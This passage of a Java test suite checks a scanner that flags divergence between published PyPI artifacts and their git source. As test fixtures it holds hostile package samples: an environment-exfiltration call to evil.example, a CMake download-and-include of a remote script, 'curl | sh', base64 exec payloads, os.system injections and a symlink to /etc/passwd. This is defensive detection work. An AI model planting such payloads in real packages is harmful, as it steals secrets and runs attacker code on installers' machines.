package dev.divergence.registry.pypi;

import static dev.divergence.fixtures.Trees.wheelFiles;
import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.flatProject;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Classifier;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Trees;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * PyPI's generated files are explained only where and as the packaging tool writes them, the content that matters
 * in them (dependencies, entry points) is compared with the source, and files that run without being named are
 * HIGH_RISK when unexplained. Each test publishes a hostile release against a JGit repository.
 */
class PypiRulesTest {

    @TempDir
    Path dir;

    private static final String PYPROJECT = "[project]\nname = \"demo\"\nversion = \"1.0.0\"\n"
            + "dependencies = [\"httpx>=0.27\"]\n\n[project.optional-dependencies]\ncli = [\"click>=8\"]\n\n"
            + "[project.scripts]\ndemo = \"demo.core:main\"\n";

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String metadata(String... requires) {
        StringBuilder sb = new StringBuilder("Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n");
        for (String r : requires) {
            sb.append("Requires-Dist: ").append(r).append('\n');
        }
        return sb.append("\ndescription\n").toString();
    }

    private ScanWorld world(SortedMap<String, byte[]> tree) throws Exception {
        ScanWorld w = new ScanWorld(dir, "demo");
        w.commit(tree, "1.0.0");
        w.tag("v1.0.0");
        return w;
    }

    private static SortedMap<String, byte[]> project() {
        return with(flatProject("1.0.0"), "pyproject.toml", PYPROJECT);
    }


    private static void assertRow(ArtifactReport a, String path, FileStatus status, String rule, boolean highRisk) {
        FileDivergence f = row(a, path);
        assertEquals(status, f.status(), path);
        assertEquals(rule, f.ruleId(), path);
        assertEquals(highRisk, f.highRisk(), path + " " + f.riskFlags());
    }

    @Test
    void requiresDistAndEntryPointsTheSourceDeclaresAreGenerated() throws Exception {
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", project(), wheelFiles(project()), Map.of(
                    "METADATA", utf8(metadata("httpx>=0.27", "click>=8; extra == \"cli\"")),
                    "entry_points.txt", utf8("[console_scripts]\ndemo = demo.core:main\n")));
            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
            assertRow(wheel, "demo-1.0.0.dist-info/METADATA", FileStatus.GENERATED, PypiGeneratedFiles.WHEEL_DIST_INFO, false);
            assertRow(wheel, "demo-1.0.0.dist-info/entry_points.txt", FileStatus.GENERATED,
                    PypiGeneratedFiles.WHEEL_DIST_INFO, false);
            assertEquals(Verdict.EXPLAINED, wheel.verdict());
        }
    }

    @Test
    void aDependencyTheSourceDoesNotDeclareIsHighRisk() throws Exception {
        // a vendored project's setup.py inside the package declares the dependency: it is not this project's
        SortedMap<String, byte[]> tree = with(project(), "demo/vendor/setup.py",
                "from setuptools import setup\nsetup(name='v', install_requires=['telemetry-kit'])\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "demo.egg-info/requires.txt", "httpx>=0.27\nsetuptools-helper-x\n\n[cli]\nclick>=8\n"),
                    wheelFiles(tree), Map.of("METADATA", utf8(metadata("httpx>=0.27", "telemetry-kit>=1.0",
                            "click @ https://example.invalid/click-8.0-py3-none-any.whl"))));
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport wheel = artifact(r, ".whl");
            FileDivergence meta = row(wheel, "demo-1.0.0.dist-info/METADATA");
            assertEquals(FileStatus.PHANTOM, meta.status());
            assertEquals(PypiGeneratedFiles.NEW_DEPENDENCY, meta.ruleId());
            assertTrue(meta.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
            assertTrue(meta.highRisk());
            assertEquals("new dependencies [click @ https://example.invalid/click-8.0-py3-none-any.whl "
                    + "(source: click>=8; extra == \"cli\"), telemetry-kit]",
                    meta.detail().orElseThrow());
            assertEquals(List.of("demo-1.0.0.dist-info/METADATA"), wheel.highRiskPaths());
            ArtifactReport sdist = artifact(r, ".tar.gz");
            assertRow(sdist, "demo-1.0.0/demo.egg-info/requires.txt", FileStatus.PHANTOM,
                    PypiGeneratedFiles.NEW_DEPENDENCY, true);
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void requiresDistIsKeptVisibleWhenTheSourceComputesItsDependencies() throws Exception {
        SortedMap<String, byte[]> tree = with(Trees.without(project(), "pyproject.toml"),
                "setup.py", "from setuptools import setup\nREQS = open('reqs.txt').read().split()\n"
                        + "setup(name='demo', install_requires=REQS)\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", tree, wheelFiles(tree), Map.of("METADATA", utf8(metadata("httpx>=0.27"))));
            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
            assertRow(wheel, "demo-1.0.0.dist-info/METADATA", FileStatus.PHANTOM, PypiGeneratedFiles.METADATA_UNVERIFIED,
                    false);
            assertEquals(Verdict.DIVERGENT, wheel.verdict());
        }
    }

    @Test
    void anEntryPointTheSourceDoesNotDeclareIsHighRisk() throws Exception {
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", project(), wheelFiles(project()), Map.of("entry_points.txt", utf8(
                    "[console_scripts]\ndemo = demo.core:main\npip = demo.core:main\n\n[pytest11]\ndemo = demo.core\n")));
            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
            FileDivergence ep = row(wheel, "demo-1.0.0.dist-info/entry_points.txt");
            assertEquals(PypiGeneratedFiles.NEW_ENTRY_POINT, ep.ruleId());
            assertTrue(ep.riskFlags().contains(RiskFlag.ENTRY_POINT));
            assertTrue(ep.highRisk());
            assertEquals("entry points the source does not declare [console_scripts:pip = demo.core:main, "
                    + "pytest11:demo = demo.core]", ep.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
        }
    }

    @Test
    void distInfoAndEggInfoAreGeneratedOnlyWhereAndAsTheToolNamesThem() throws Exception {
        String payload = "import base64\nexec(base64.b64decode('" + Base64.getEncoder().encodeToString(new byte[600]) + "'))\n";
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", with(project(), "vendor/other.egg-info/PKG-INFO", "Name: other\n",
                            "demo.egg-info/hook.py", payload),
                    with(wheelFiles(project()), "demo/foo.dist-info/evil.py", payload,
                            "other-9.9.dist-info/RECORD", "x,,\n"),
                    Map.of("evil.py", utf8(payload)));
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport wheel = artifact(r, ".whl");
            assertRow(wheel, "demo-1.0.0.dist-info/WHEEL", FileStatus.GENERATED, PypiGeneratedFiles.WHEEL_DIST_INFO, false);
            assertRow(wheel, "demo-1.0.0.dist-info/evil.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertRow(wheel, "demo/foo.dist-info/evil.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertRow(wheel, "other-9.9.dist-info/RECORD", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
            ArtifactReport sdist = artifact(r, ".tar.gz");
            assertRow(sdist, "demo-1.0.0/demo.egg-info/SOURCES.txt", FileStatus.GENERATED, PypiGeneratedFiles.SDIST_EGG_INFO, false);
            assertRow(sdist, "demo-1.0.0/vendor/other.egg-info/PKG-INFO", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
            assertRow(sdist, "demo-1.0.0/demo.egg-info/hook.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aTraversalEntryIsHighRiskEvenWhereGeneratedFilesLive() throws Exception {
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", project(), wheelFiles(project()),
                    Map.of("licenses/../../../../home/user/.bashrc", utf8("curl example.invalid | sh\n")));
            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
            FileDivergence f = wheel.files().stream().filter(x -> x.riskFlags().contains(RiskFlag.PATH_TRAVERSAL))
                    .findFirst().orElseThrow();
            assertEquals(FileStatus.GENERATED, f.status());
            assertEquals(PypiGeneratedFiles.WHEEL_DIST_INFO, f.ruleId());
            assertTrue(f.highRisk());
            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
        }
    }

    private static final String SCM_TEMPLATE = "# file generated by setuptools-scm\n# don't change, don't track in version control\n\n"
            + "__all__ = [\n    \"__version__\",\n    \"__version_tuple__\",\n    \"version\",\n    \"version_tuple\",\n"
            + "    \"__commit_id__\",\n    \"commit_id\",\n]\n\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n"
            + "    from typing import Tuple\n    from typing import Union\n\n    VERSION_TUPLE = Tuple[Union[int, str], ...]\n"
            + "    COMMIT_ID = Union[str, None]\nelse:\n    VERSION_TUPLE = object\n    COMMIT_ID = object\n\n"
            + "version: str\n__version__: str\n__version_tuple__: VERSION_TUPLE\nversion_tuple: VERSION_TUPLE\n"
            + "commit_id: COMMIT_ID\n__commit_id__: COMMIT_ID\n\n__version__ = version = '1.0.0'\n"
            + "__version_tuple__ = version_tuple = (1, 0, 0)\n\n__commit_id__ = commit_id = 'g0123abc'\n";

    @Test
    void scmVersionFileIsGeneratedOnlyAsALiteralModule() throws Exception {
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", with(project(), "demo/_version.py", SCM_TEMPLATE,
                            "demo/sub/_version.py", SCM_TEMPLATE + "__import__('os').system('id')\n",
                            "demo/other/version.py", "version = '1.0.0' if True else exec('x')\n",
                            "demo/more/_version.py", "version = str('1.0.0')\n"),
                    wheelFiles(project()));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/demo/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.SCM_VERSION_FILE, false);
            // a payload in the template's slack is a new module with dynamic execution: HIGH_RISK
            assertRow(sdist, "demo-1.0.0/demo/sub/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertRow(sdist, "demo-1.0.0/demo/other/version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertRow(sdist, "demo-1.0.0/demo/more/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
        }
    }

    @Test
    void setupCfgEggInfoBlockMustBeExactlySetuptoolsBlock() throws Exception {
        try (ScanWorld w = world(project())) {
            w.publish("1.0.0", project(), wheelFiles(project()));
            w.pypi.index().add(new dev.divergence.demo.PypiIndexWriter.Upload("1.0.0", "demo-1.0.0.zip",
                    dev.divergence.demo.PythonDistributions.zip(Map.of(
                            "demo-1.0.0/setup.cfg", utf8("[flake8]\nmax-line-length = 100\n\n[egg_info]\ntag_build = \n"
                                    + "tag_date = 0\negg_base = /tmp/x\n\n"),
                            "demo-1.0.0/PKG-INFO", utf8(metadata()))), w.pypi.clock()));
            ReleaseReport r = w.scan("1.0.0");
            assertRow(artifact(r, ".tar.gz"), "demo-1.0.0/setup.cfg", FileStatus.GENERATED,
                    PypiGeneratedFiles.SDIST_SETUP_CFG_EGG_INFO, false);
            assertRow(artifact(r, ".zip"), "demo-1.0.0/setup.cfg", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
        }
    }

    @Test
    void aFileSetupPyOpensAndRunsRunsAtInstall() throws Exception {
        // red team round 7 (case4): setup.py exec(open("demo/__about__.py").read(), about), as requests/urllib3 do
        SortedMap<String, byte[]> tree = with(project(), "setup.py", "import os\nabout = {}\n"
                        + "exec(open(os.path.join(\"demo\", \"__about__.py\")).read(), about)\n"
                        + "from setuptools import setup\nsetup(version=about['__version__'])\n",
                "demo/__about__.py", "__version__ = '1.0.0'\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "demo/__about__.py", "__version__ = '1.0.0'\nimport urllib.request as u\n"
                    + "u.urlopen('https://evil.example/?' + repr(dict(__import__('os').environ)))\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            FileDivergence about = row(sdist, "demo-1.0.0/demo/__about__.py");
            assertTrue(about.riskFlags().contains(RiskFlag.AUTO_EXEC), about.toString());
            assertTrue(about.highRisk());
            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
        }
    }

    @Test
    void theBuildFilesAScikitBuildCoreBackendDrivesRunAtInstall() throws Exception {
        // red team round 7 (case15): pip runs CMake on the sdist's CMakeLists.txt
        SortedMap<String, byte[]> tree = with(project(),
                "pyproject.toml", "[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n\n"
                        + PYPROJECT,
                "CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(demo)\n",
                "cmake/util.cmake", "set(X 1)\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(demo)\n"
                            + "file(DOWNLOAD https://evil.example/p.cmake ${CMAKE_BINARY_DIR}/p.cmake)\ninclude(${CMAKE_BINARY_DIR}/p.cmake)\n",
                    "cmake/util.cmake", "set(X 2)\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            for (String p : List.of("CMakeLists.txt", "cmake/util.cmake")) {
                FileDivergence f = row(sdist, "demo-1.0.0/" + p);
                assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f);
                assertTrue(f.highRisk(), p);
            }
        }
    }

    @Test
    void filesThatRunWithoutBeingNamedAreHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = with(project(),
                "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n"
                        + PYPROJECT + "\n[tool.hatch.build.hooks.custom]\n",
                "_build/backend.py", "from setuptools.build_meta import *\n",
                "hatch_build.py", "X = 1\n",
                "scripts/demo-tool", "#!/usr/bin/env python\nprint('tool')\n",
                "scripts/demo-run", "#!/usr/bin/env python3\nprint('run')\n",
                "scripts/demo-run2", "#!/usr/bin/env python3\nprint('run')\n",
                "tests/fixtures/paths.pth", "import demo.hook\n",
                "tests/fakes/git", "#!/usr/bin/env python3\nimport os\nos.system('true')\n");
        try (ScanWorld w = world(tree)) {
            SortedMap<String, byte[]> wheel = with(wheelFiles(tree),
                    "sitecustomize.py", "import demo\n",
                    "demo-1.0.0.data/purelib/demo-init.pth", "/opt/demo\n",
                    "demo-1.0.0.data/scripts/pip", "#!python\nprint('not pip')\n",
                    "demo-1.0.0.data/scripts/demo-tool", "#!/usr/bin/env python\nprint('tool')\n",
                    "demo-1.0.0.data/data/share/doc/demo.txt", "docs\n",
                    "demo-1.0.0.data/scripts/demo-run", "#!python\nprint('run')\n",
                    "demo-1.0.0.data/scripts/demo-run2", "#!python\nprint('run')\nimport os\n",
                    "demo-init2.pth", "import demo.hook\n",
                    // red team round 7: Windows installs data/Lib/site-packages; a fake git of the tests as a command
                    "demo-1.0.0.data/data/Lib/site-packages/sitecustomize.py", "import demo\n",
                    "demo-1.0.0.data/scripts/git", "#!python\nimport os\nos.system('true')\n");
            w.publish("1.0.0", with(tree, "_build/backend.py", "from setuptools.build_meta import *\nTIMEOUT = 2\n",
                    "hatch_build.py", "X = 2\n"), wheel);
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport whl = artifact(r, ".whl");
            assertRow(whl, "sitecustomize.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertTrue(row(whl, "sitecustomize.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertRow(whl, "demo-1.0.0.data/purelib/demo-init.pth", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertRow(whl, "demo-1.0.0.data/scripts/pip", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            // the same script as the repository's: explained, even though it is execution-relevant
            assertRow(whl, "demo-1.0.0.data/scripts/demo-tool", FileStatus.MATCH_NORMALIZED,
                    Classifier.SAME_BLOB_OTHER_PATH, false);
            assertRow(whl, "demo-1.0.0.data/data/share/doc/demo.txt", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
            // setuptools' #!python shebang is explained; anything else added to the script is not
            assertRow(whl, "demo-1.0.0.data/scripts/demo-run", FileStatus.MATCH_NORMALIZED,
                    PypiGeneratedFiles.SCRIPT_SHEBANG, false);
            assertRow(whl, "demo-1.0.0.data/scripts/demo-run2", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            // a test fixture's bytes do not explain a .pth of another name at the import root, nor does history
            assertEquals(FileStatus.IN_HISTORY, row(whl, "demo-init2.pth").status());
            assertEquals(List.of("demo-1.0.0.data/data/Lib/site-packages/sitecustomize.py",
                            "demo-1.0.0.data/purelib/demo-init.pth", "demo-1.0.0.data/scripts/demo-run2",
                            "demo-1.0.0.data/scripts/git", "demo-1.0.0.data/scripts/pip", "demo-init2.pth",
                            "sitecustomize.py"),
                    whl.highRiskPaths().stream().sorted().toList());
            ArtifactReport sdist = artifact(r, ".tar.gz");
            // a benign-looking change to the in-tree backend or a build hook still runs at install: HIGH_RISK
            assertRow(sdist, "demo-1.0.0/_build/backend.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
            assertRow(sdist, "demo-1.0.0/hatch_build.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    /** An sdist of core.py, PKG-INFO and demo/util.py as a symlink to /etc/passwd. */
    private static void publishLinkSdist(ScanWorld w) throws Exception {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        try (var gz = new org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream(bytes);
             var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(gz)) {
            for (Map.Entry<String, byte[]> e : Map.of("demo-1.0.0/demo/core.py", project().get("demo/core.py"),
                    "demo-1.0.0/PKG-INFO", utf8(metadata())).entrySet()) {
                var te = new org.apache.commons.compress.archivers.tar.TarArchiveEntry(e.getKey());
                te.setSize(e.getValue().length);
                tar.putArchiveEntry(te);
                tar.write(e.getValue());
                tar.closeArchiveEntry();
            }
            var link = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("demo-1.0.0/demo/util.py",
                    org.apache.commons.compress.archivers.tar.TarArchiveEntry.LF_SYMLINK);
            link.setLinkName("/etc/passwd");
            tar.putArchiveEntry(link);
            tar.closeArchiveEntry();
        }
        w.pypi.index().add(new dev.divergence.demo.PypiIndexWriter.Upload("1.0.0", "demo-1.0.0.tar.gz",
                bytes.toByteArray(), w.pypi.clock()));
    }

    @Test
    void aLinkEntryIsHighRiskEvenWithoutASourceToCompare() throws Exception {
        try (ScanWorld w = world(project())) {
            publishLinkSdist(w);
            ReleaseReport r = w.scanner().scan(w.release("1.0.0"), java.util.Optional.of(dir.resolve("no-such-repo").toString()));
            ArtifactReport sdist = artifact(r, ".tar.gz");
            FileDivergence link = row(sdist, "demo-1.0.0/demo/util.py");
            assertEquals(FileStatus.UNCOMPARED, link.status());
            assertTrue(link.highRisk());
            assertEquals(FileStatus.UNCOMPARED, row(sdist, "demo-1.0.0/demo/core.py").status());
            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").highRisk());
            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
            assertTrue(sdist.reason().orElseThrow().startsWith("high risk: demo-1.0.0/demo/util.py UNCOMPARED [CODE, LINK]"),
                    sdist.reason().orElseThrow());
        }
    }

    @Test
    void aLinkOrAbsoluteEntryIsHighRiskWhateverExplainsIt() throws Exception {
        try (ScanWorld w = world(project())) {
            publishLinkSdist(w);
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/demo/core.py", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
            assertRow(sdist, "demo-1.0.0/PKG-INFO", FileStatus.GENERATED, PypiGeneratedFiles.SDIST_PKG_INFO, false);
            FileDivergence link = row(sdist, "demo-1.0.0/demo/util.py");
            assertEquals(Classifier.SPECIAL_ENTRY, link.ruleId());
            assertTrue(link.riskFlags().contains(RiskFlag.LINK));
            assertTrue(link.highRisk());
            assertEquals(List.of("demo-1.0.0/demo/util.py"), sdist.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
        }
    }

    @Test
    void anInTreeBackendAtTheRootIsExecutionRelevantAndTheRestOfTheTreeIsNot() throws Exception {
        SortedMap<String, byte[]> tree = with(project(),
                "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"local_backend\"\nbackend-path = [\".\"]\n\n"
                        + PYPROJECT,
                "local_backend.py", "from setuptools.build_meta import *\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "local_backend.py", "from setuptools.build_meta import *\nDEBUG = True\n",
                    "demo/util.py", "def twice(x):\n    return x * 2\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/local_backend.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
            assertRow(sdist, "demo-1.0.0/demo/util.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertEquals(List.of("demo-1.0.0/local_backend.py"), sdist.highRiskPaths());
        }
    }
    private static String versioneerShort(String json) {
        return "\n# This file was generated by 'versioneer.py' (0.29) from\n"
                + "# revision-control system data, or from the parent directory name of an\n"
                + "# unpacked source archive. Distribution tarballs contain a pre-generated copy\n# of this file.\n\n"
                + "import json\n\nversion_json = '''\n" + json + "\n'''  # END VERSION_JSON\n\n\n"
                + "def get_versions():\n    return json.loads(version_json)\n";
    }

    @Test
    void versioneerShortVersionFileIsGeneratedOnlyWithItsExactShape() throws Exception {
        String json = "{\n \"date\": \"2026-01-05T09:00:00+0000\",\n \"dirty\": false,\n \"error\": null,\n"
                + " \"full-revisionid\": \"0123456789abcdef0123456789abcdef01234567\",\n \"version\": \"1.0.0\"\n}";
        String longTemplate = "# This file helps to compute a version number in source trees obtained from\n"
                + "# git-archive tarball (such as those provided by githubs download-from-tag\n# feature). Generated by versioneer.\n"
                + "def get_versions():\n    return {'version': '0+unknown'}\n";
        SortedMap<String, byte[]> tree = with(project(), "demo/_version.py", longTemplate,
                "demo/sub/_version.py", longTemplate, "demo/more/_version.py", longTemplate);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "demo/_version.py", versioneerShort(json),
                            "demo/sub/_version.py", versioneerShort(json.replace("\"error\": null", "\"error\": null,\n \"x\": 1")),
                            "demo/more/_version.py", versioneerShort(json) + "__import__('os').system('id')\n"),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/demo/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.VERSIONEER_FILE, false);
            assertRow(sdist, "demo-1.0.0/demo/sub/_version.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertEquals(FileStatus.MODIFIED, row(sdist, "demo-1.0.0/demo/more/_version.py").status());
            assertTrue(row(sdist, "demo-1.0.0/demo/more/_version.py").highRisk(), "added __import__ line");
        }
    }

    /** setup.cfg in the repository: comments, {@code key=value}, a four-space continuation, entry points. */
    private static final String SETUP_CFG = "# build configuration\n[metadata]\nname=demo\n\n[options]\n"
            + "install_requires =\n    httpx>=0.27\n    # rich is optional\n\n[options.entry_points]\n"
            + "console_scripts =\n    demo = demo.core:main\n\n[flake8]\nmax-line-length: 100\n";
    /** What setuptools 65's sdist wrote for it (setopt.edit_config run on this file, CPython 3.11). */
    private static final String SETUP_CFG_WRITTEN = "[metadata]\nname = demo\n\n[options]\ninstall_requires = \n"
            + "\thttpx>=0.27\n\n[options.entry_points]\nconsole_scripts = \n\tdemo = demo.core:main\n\n[flake8]\n"
            + "max-line-length = 100\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";

    /** An sdist laid out as setuptools writes it, with the given files (paths inside {@code demo-VERSION/}). */
    private static byte[] setuptoolsSdist(String version, SortedMap<String, byte[]> files) throws java.io.IOException {
        String root = "demo-" + version + "/";
        SortedMap<String, byte[]> entries = new java.util.TreeMap<>();
        files.forEach((k, v) -> entries.put(root + k, v));
        entries.put(root + "PKG-INFO", utf8(metadata().replace("1.0.0", version)));
        entries.put(root + "demo.egg-info/PKG-INFO", utf8(metadata().replace("1.0.0", version)));
        entries.put(root + "demo.egg-info/SOURCES.txt", utf8(String.join("\n", files.keySet()) + "\n"));
        entries.put(root + "demo.egg-info/top_level.txt", utf8("demo\n"));
        return dev.divergence.demo.PythonDistributions.tarGz(entries);
    }

    @Test
    void setupCfgRewrittenBySetuptoolsIsMatchNormalizedAndAnyOtherChangeIsNot() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "setup.cfg", SETUP_CFG);
        java.util.Map<String, String> published = new java.util.LinkedHashMap<>();
        published.put("as-written", SETUP_CFG_WRITTEN);
        published.put("changed-value", SETUP_CFG_WRITTEN.replace("httpx>=0.27", "httpx>=0.1"));
        published.put("added-requirement", SETUP_CFG_WRITTEN.replace("\thttpx>=0.27\n", "\thttpx>=0.27\n\tevil-pkg\n"));
        published.put("added-entry-point", SETUP_CFG_WRITTEN.replace("\tdemo = demo.core:main\n",
                "\tdemo = demo.core:main\n\tpip = demo.evil:main\n"));
        published.put("renamed-section", SETUP_CFG_WRITTEN.replace("[options.entry_points]", "[options.data_files]"));
        published.put("payload-in-tag-build", SETUP_CFG_WRITTEN.replace("tag_build = \n", "tag_build = ;__import__('os')\n"));
        published.put("extra-egg-info-option", SETUP_CFG_WRITTEN.replace("tag_date = 0\n", "tag_date = 0\negg_base = /tmp\n"));
        published.put("comment-kept", "# payload\n" + SETUP_CFG_WRITTEN);
        try (ScanWorld w = world(tree)) {
            // one release per variant, each built from the same tagged tree (1.0.0 has the tag, the others are
            // located by the overlap of their files)
            int day = 0;
            for (java.util.Map.Entry<String, String> e : published.entrySet()) {
                String version = "1.0." + day;
                w.pypi.index().add(new dev.divergence.demo.PypiIndexWriter.Upload(version, "demo-" + version + ".tar.gz",
                        setuptoolsSdist(version, with(tree, "setup.cfg", e.getValue())), w.pypi.clock().plusSeconds(++day)));
            }
            day = 0;
            for (java.util.Map.Entry<String, String> e : published.entrySet()) {
                String version = "1.0." + day++;
                ArtifactReport sdist = artifact(w.scanner().scan(w.release(version),
                        java.util.Optional.of(w.git.dir().toString())), ".tar.gz");
                FileDivergence f = sdist.files().stream().filter(x -> x.displayPath().endsWith("/setup.cfg"))
                        .findFirst().orElseThrow();
                if (e.getKey().equals("as-written")) {
                    assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), e.getKey());
                    assertEquals(PypiGeneratedFiles.SDIST_SETUP_CFG_ROUNDTRIP, f.ruleId(), e.getKey());
                } else if (e.getKey().endsWith("-value") || e.getKey().endsWith("-requirement")
                        || e.getKey().endsWith("-entry-point")) {
                    // what a build of the sdist installs or runs differs from the source's: HIGH_RISK
                    assertEquals(FileStatus.MODIFIED, f.status(), e.getKey());
                    assertEquals(e.getKey().endsWith("-entry-point") ? PypiGeneratedFiles.NEW_ENTRY_POINT
                            : PypiGeneratedFiles.NEW_DEPENDENCY, f.ruleId(), e.getKey());
                    assertTrue(f.highRisk(), e.getKey());
                } else {
                    assertEquals(FileStatus.MODIFIED, f.status(), e.getKey());
                    assertEquals(Classifier.UNEXPLAINED, f.ruleId(), e.getKey());
                }
            }
        }
    }

    @Test
    void versionFilesOfEveryToolAndFormAreGeneratedAndNothingElseFillsTheirSlots() throws Exception {
        String longTemplate = "# This file helps to compute a version number in source trees obtained from\n"
                + "# git-archive tarball (such as those provided by githubs download-from-tag\n# feature). Generated by versioneer.\n"
                + "def get_versions():\n    return {'version': '0+unknown'}\n";
        String legacy = "\n# This file was generated by 'versioneer.py' (0.14) from\n"
                + "# revision-control system data, or from the parent directory name of an\n"
                + "# unpacked source archive. Distribution tarballs contain a pre-generated copy\n# of this file.\n\n"
                + "version_version = '%s'\nversion_full = '0123456789abcdef0123456789abcdef01234567'\n"
                + "def get_versions(default={}, verbose=False):\n    return {'version': version_version, 'full': version_full}\n\n";
        String noDate = "{\n \"dirty\": false,\n \"error\": null,\n"
                + " \"full-revisionid\": \"0123456789abcdef0123456789abcdef01234567\",\n \"version\": \"1.0.0\"\n}";
        SortedMap<String, byte[]> tree = with(project(), "demo/v/_version.py", longTemplate, "demo/w/_version.py", longTemplate,
                "demo/x/_version.py", longTemplate);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree,
                    "demo/_version.py", String.format(ScmVersionFileTest.SCM_7, "1.0.0", "(1, 0, 0)"),
                    "demo/a/_version.py", String.format(ScmVersionFileTest.SCM_8, "1.0.0", "(1, 0, 0)"),
                    "demo/b/_version.py", String.format(ScmVersionFileTest.SCM_PEP604, "1.0.0", "(1, 0, 0)"),
                    "demo/c/version.py", String.format(ScmVersionFileTest.HATCHLING, "1.0.0"),
                    "demo/bad/_version.py", String.format(ScmVersionFileTest.SCM_7, "1.0.0", "(1, 0, 0, 'payload')"),
